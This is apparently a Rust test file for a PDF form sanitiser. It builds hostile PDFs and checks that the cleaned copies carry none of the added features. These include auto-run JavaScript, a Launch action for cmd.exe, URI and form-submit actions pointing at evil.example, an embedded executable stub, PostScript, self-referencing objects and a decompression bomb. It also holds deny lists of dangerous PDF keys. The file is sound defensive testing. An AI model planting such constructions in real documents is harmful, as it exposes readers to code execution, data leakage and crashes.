//! Documents that want more than to be filled in give copies that do not.

use super::{copy_of, repair, sheet, words};
use crate::desk::bytes_of;
use flate2::Compression;
use flate2::write::ZlibEncoder;
use lopdf::{Dictionary, Document, Object, ObjectId, Stream, dictionary};
use std::io::Write as _;

const FORM: &str = "forms/missing-phone.fields.pdf";

/// Entries that make a document do something, carry something, or fetch something.
const KEYS: [&str; 19] = [
    "OpenAction",
    "AA",
    "JS",
    "JavaScript",
    "XFA",
    "EF",
    "EmbeddedFiles",
    "Names",
    "RichMediaContent",
    "Metadata",
    "OCProperties",
    "RV",
    "Perms",
    "ByteRange",
    "Dest",
    "Next",
    "Collection",
    "OPI",
    "Alternates",
];
/// What such entries are called.
const NAMES: [&str; 21] = [
    "JavaScript",
    "Launch",
    "URI",
    "GoToR",
    "GoToE",
    "SubmitForm",
    "ImportData",
    "ResetForm",
    "Filespec",
    "EmbeddedFile",
    "RichMedia",
    "Rendition",
    "Movie",
    "Sound",
    "Screen",
    "3D",
    "Link",
    "FileAttachment",
    "ObjStm",
    "Crypt",
    "PS",
];

/// The objects that have a partial field name: fields.
fn fields(file: &Document) -> Vec<ObjectId> {
    let named = |object: &Object| object.as_dict().is_ok_and(|dict| dict.has(b"T"));
    file.objects.iter().filter(|(_, object)| named(object)).map(|(id, _)| *id).collect()
}

/// Walks all objects of a copy. It holds nothing but a form.
pub(super) fn does_nothing(bytes: &[u8], name: &str) {
    let file = Document::load_mem(bytes).unwrap();
    assert!(!file.was_encrypted() && !file.trailer.has(b"Encrypt"), "{name}");
    let mut open: Vec<&Object> = file.objects.values().collect();
    let trailer: Vec<&Object> = file.trailer.iter().map(|(_, value)| value).collect();
    open.extend(trailer);
    while let Some(object) = open.pop() {
        let dict = match object {
            Object::Array(items) => {
                open.extend(items);
                continue;
            }
            Object::Name(value) => {
                assert!(
                    !NAMES.iter().any(|no| no.as_bytes() == value),
                    "{name}: /{}",
                    String::from_utf8_lossy(value)
                );
                continue;
            }
            Object::Dictionary(dict) => dict,
            Object::Stream(stream) => {
                // an external file; a remote page
                assert!(!stream.dict.has(b"F") && !stream.dict.has(b"Ref"), "{name}");
                &stream.dict
            }
            _ => continue,
        };
        for (key, value) in dict {
            assert!(!KEYS.iter().any(|no| no.as_bytes() == key), "{name}: {}", String::from_utf8_lossy(key));
            open.push(value);
        }
        let widget = dict.get(b"Type").and_then(Object::as_name).ok() == Some(b"Annot");
        assert!(!widget || dict.get(b"Subtype").and_then(Object::as_name).ok() == Some(b"Widget"), "{name}");
        assert!(!widget || !dict.has(b"A"), "{name}");
    }
    let catalog = file.catalog().unwrap();
    assert_eq!(catalog.get(b"Lang").unwrap().as_str().unwrap(), b"fr", "{name}");
    let info = file.trailer.get_deref(b"Info", &file).unwrap().as_dict().unwrap();
    assert!(info.get(b"Title").unwrap().as_str().unwrap().starts_with(b"F413-a-corriger-F413"), "{name}");
}

fn script() -> Dictionary {
    dictionary! { "S" => "JavaScript", "JS" => Object::string_literal("app.alert(1)") }
}

fn spoilt(how: impl FnOnce(&mut Document, ObjectId)) -> Vec<u8> {
    let mut file = Document::load_mem(&bytes_of(FORM)).unwrap();
    let page = file.page_iter().next().unwrap();
    how(&mut file, page);
    let mut bytes = Vec::new();
    file.save_to(&mut bytes).unwrap();
    bytes
}

fn note(file: &mut Document, page: ObjectId, note: Dictionary) {
    let id = file.add_object(note);
    let mut annots = match file.get_dictionary(page).unwrap().get_deref(b"Annots", file) {
        Ok(Object::Array(annots)) => annots.clone(),
        _ => Vec::new(),
    };
    annots.push(id.into());
    file.get_dictionary_mut(page).unwrap().set("Annots", annots);
}

/// Adds a drawing to the resources of a page, under this name, and draws it.
fn drawing(file: &mut Document, page: ObjectId, drawing: ObjectId) {
    let mut resources = match file.get_dictionary(page).unwrap().get_deref(b"Resources", file) {
        Ok(Object::Dictionary(dict)) => dict.clone(),
        _ => Dictionary::new(),
    };
    resources.set("XObject", dictionary! { "Evil" => drawing });
    let old = file.get_page_content(page);
    let content = file.add_object(Stream::new(Dictionary::new(), [&old[..], b" q /Evil Do Q"].concat()));
    let page = file.get_dictionary_mut(page).unwrap();
    page.set("Resources", resources);
    page.set("Contents", content);
}

fn bomb() -> Stream {
    let mut packed = ZlibEncoder::new(Vec::new(), Compression::best());
    let zeros = vec![b' '; 1 << 20];
    for _ in 0..64 {
        packed.write_all(&zeros).unwrap();
    }
    Stream::new(dictionary! { "Subtype" => "Form", "Filter" => "FlateDecode" }, packed.finish().unwrap())
        .with_compression(false)
}

/// What a document is spoilt with, on a page.
type Spoil = fn(&mut Document, ObjectId);

/// Scripts, actions, files.
fn actions() -> Vec<(&'static str, Spoil)> {
    vec![
        ("script", |file, _| {
            file.catalog_mut().unwrap().set("OpenAction", script());
            let names = vec![Object::string_literal("x"), script().into()];
            let names = dictionary! { "JavaScript" => dictionary! { "Names" => names } };
            file.catalog_mut().unwrap().set("Names", names);
        }),
        ("script-of-page-and-fields", |file, page| {
            file.get_dictionary_mut(page).unwrap().set("AA", dictionary! { "O" => script() });
            for field in fields(file) {
                let dict = file.get_dictionary_mut(field).unwrap();
                dict.set("AA", dictionary! { "K" => script(), "V" => script() });
                dict.set("A", script());
            }
        }),
        ("launch", |file, page| {
            let action = dictionary! { "S" => "Launch", "F" => Object::string_literal("cmd.exe") };
            note(
                file,
                page,
                dictionary! { "Type" => "Annot", "Subtype" => "Link", "Rect" => vec![0.into(), 0.into(), 90.into(), 90.into()], "A" => action },
            );
        }),
        ("link-and-remote-page", |file, page| {
            let uri = dictionary! { "S" => "URI", "URI" => Object::string_literal("http://evil.example/") };
            let next = dictionary! { "S" => "GoToR", "F" => Object::string_literal("x.pdf"), "D" => vec![0.into()], "Next" => uri };
            note(
                file,
                page,
                dictionary! { "Type" => "Annot", "Subtype" => "Link", "Rect" => vec![0.into(), 0.into(), 90.into(), 90.into()], "A" => next },
            );
        }),
        ("embedded-file", |file, page| {
            let data = file.add_object(Stream::new(dictionary! { "Type" => "EmbeddedFile" }, b"MZ".to_vec()));
            let spec = file.add_object(dictionary! {
                "Type" => "Filespec", "F" => Object::string_literal("x.exe"), "EF" => dictionary! { "F" => data },
            });
            let names = vec![Object::string_literal("x"), spec.into()];
            let names = dictionary! { "EmbeddedFiles" => dictionary! { "Names" => names } };
            file.catalog_mut().unwrap().set("Names", names);
            note(
                file,
                page,
                dictionary! { "Type" => "Annot", "Subtype" => "FileAttachment", "FS" => spec, "Rect" => vec![0.into(), 0.into(), 9.into(), 9.into()] },
            );
        }),
        ("submit-button", |file, page| {
            let action =
                dictionary! { "S" => "SubmitForm", "F" => Object::string_literal("http://evil.example/") };
            note(
                file,
                page,
                dictionary! {
                    "Type" => "Annot", "Subtype" => "Widget", "FT" => "Btn", "Ff" => 1 << 16, "T" => Object::string_literal("Envoyer"),
                    "Rect" => vec![500.into(), 20.into(), 580.into(), 40.into()], "A" => action,
                },
            );
        }),
        ("xfa-beside-fields", |file, _| {
            let xfa = file.add_object(Stream::new(Dictionary::new(), b"<xdp/>".to_vec()));
            let form = file.catalog().unwrap().get(b"AcroForm").unwrap().as_reference().unwrap();
            file.get_dictionary_mut(form).unwrap().set("XFA", xfa);
        }),
    ]
}

/// Drawings and trees.
fn drawings() -> Vec<(&'static str, Spoil)> {
    vec![
        ("remote-drawing", |file, page| {
            let far = dictionary! { "F" => Object::string_literal("far.pdf"), "Page" => 0 };
            let form = dictionary! { "Type" => "XObject", "Subtype" => "Form", "BBox" => vec![0.into(), 0.into(), 9.into(), 9.into()], "Ref" => far };
            let form = file.add_object(Stream::new(form, Vec::new()));
            drawing(file, page, form);
        }),
        ("postscript-drawing", |file, page| {
            let form = dictionary! { "Type" => "XObject", "Subtype" => "PS" };
            let form = file.add_object(Stream::new(form, b"systemdict /quit get exec".to_vec()));
            drawing(file, page, form);
        }),
        ("drawing-that-draws-itself", |file, page| {
            let id = file.new_object_id();
            let resources = dictionary! { "XObject" => dictionary! { "Evil" => id } };
            let form = dictionary! {
                "Type" => "XObject", "Subtype" => "Form", "BBox" => vec![0.into(), 0.into(), 9.into(), 9.into()], "Resources" => resources,
            };
            file.objects.insert(id, Stream::new(form, b"/Evil Do".to_vec()).into());
            drawing(file, page, id);
        }),
        ("list-that-holds-itself", |file, page| {
            let id = file.new_object_id();
            file.objects.insert(id, Object::Array(vec![id.into(), id.into()]));
            let state = dictionary! { "Evil" => dictionary! { "D" => id, "Font" => id } };
            let mut resources = match file.get_dictionary(page).unwrap().get_deref(b"Resources", file) {
                Ok(Object::Dictionary(dict)) => dict.clone(),
                _ => Dictionary::new(),
            };
            resources.set("ExtGState", state);
            file.get_dictionary_mut(page).unwrap().set("Resources", resources);
        }),
        ("field-that-is-its-own-parent", |file, _| {
            for field in fields(file) {
                file.get_dictionary_mut(field).unwrap().set("Parent", field);
            }
        }),
        // never drawn: only who copies it unpacks it
        ("stream-without-end", |file, page| {
            let bomb = file.add_object(bomb());
            let mut resources = match file.get_dictionary(page).unwrap().get_deref(b"Resources", file) {
                Ok(Object::Dictionary(dict)) => dict.clone(),
                _ => Dictionary::new(),
            };
            resources.set("XObject", dictionary! { "Evil" => bomb });
            file.get_dictionary_mut(page).unwrap().set("Resources", resources);
        }),
    ]
}

#[test]
fn whatever_a_document_would_do_its_copy_does_not() {
    let before = words(&sheet(&bytes_of(FORM)));
    let cases: Vec<(&str, Spoil)> = [actions(), drawings()].concat();
    let folder = tempfile::tempdir().unwrap();
    let files: Vec<_> = cases
        .iter()
        .map(|(name, how)| {
            let path = folder.path().join(format!("{name}.pdf"));
            std::fs::write(&path, spoilt(how)).unwrap();
            path
        })
        .collect();
    let reports = repair(folder.path(), &files);
    for (file, report) in files.iter().zip(reports) {
        let name = file.file_name().unwrap().to_string_lossy().into_owned();
        assert_eq!(report["submissions"][0]["verdict"], "rejected", "{name}");
        let copy =
            std::fs::read(copy_of(folder.path(), file)).unwrap_or_else(|error| panic!("{name}: {error}"));
        does_nothing(&copy, &name);
        assert!(copy.len() < 1 << 20, "{name}: {} bytes", copy.len());
        assert_eq!(words(&sheet(&copy)), before, "{name}");
    }
}
